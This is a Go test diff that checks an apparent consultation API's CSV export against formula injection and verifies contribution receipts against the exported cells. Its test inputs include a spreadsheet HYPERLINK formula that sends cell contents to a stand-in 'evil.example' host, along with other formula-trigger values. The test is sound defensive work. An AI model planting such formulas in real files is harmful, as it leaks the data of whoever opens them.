@@ -10,6 +10,7 @@ import (
 	"net/http"
 	"slices"
 	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -161,4 +162,52 @@ func TestExportRecord(t *testing.T) {
 func hashOf(title, body string) string {
 	sum := sha256.Sum256([]byte(title + "\n" + body))
 	return hex.EncodeToString(sum[:])
+}
+
+// TestCSVExportIsSafeToOpen submits contributions a spreadsheet would run
+// as formulas: the CSV a user downloads shows them as text, and each
+// receipt still verifies against it by the rule of
+// docs/record-verification.md (take one leading quote off every cell).
+func TestCSVExportIsSafeToOpen(t *testing.T) {
+	t.Parallel()
+	a := newAPIServer(t)
+	id := seedPrivateWindow(t)
+	mex := a.token(MemberState, "MEX", "")
+	receipts := map[string]process.Receipt{}
+	for _, c := range []struct{ title, body string }{
+		{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, "+1+2"},
+		{"-2+3", "@SUM(A1:A2)"},
+		{"\tTabbed", "\rReturned"},
+		{"'Quoted already", "'=1+1"},
+		{"Plain", "Nothing to neutralise."},
+	} {
+		res := a.do("POST", contributionsPath(id, "hearing"), mex, map[string]string{"title": c.title, "body": c.body}, "Idempotency-Key", newKey())
+		var r process.Receipt
+		res.JSON(t, &r)
+		if res.Status != http.StatusCreated {
+			t.Fatalf("POST %q: %d %s", c.title, res.Status, res.Body)
+		}
+		receipts[r.Tracking] = r
+	}
+
+	res := a.do("GET", "/v1/processes/"+id+"/contributions.csv", "", nil)
+	records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	stored := func(cell string) string { return strings.TrimPrefix(cell, "'") } // the documented rule
+	for _, rec := range records[1:] {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+				t.Errorf("row %s: cell %q would run as a formula", rec[0], cell)
+			}
+		}
+		title, body := stored(rec[4]), stored(rec[5])
+		if r := receipts[rec[0]]; hashOf(title, body) != r.SHA256 || rec[7] != r.SHA256 {
+			t.Errorf("row %s (%q, %q): hash %s, receipt %s", rec[0], title, body, hashOf(title, body), r.SHA256)
+		}
+	}
+	if len(records) != 1+len(receipts) {
+		t.Fatalf("%d rows, want %d", len(records)-1, len(receipts))
+	}
 }
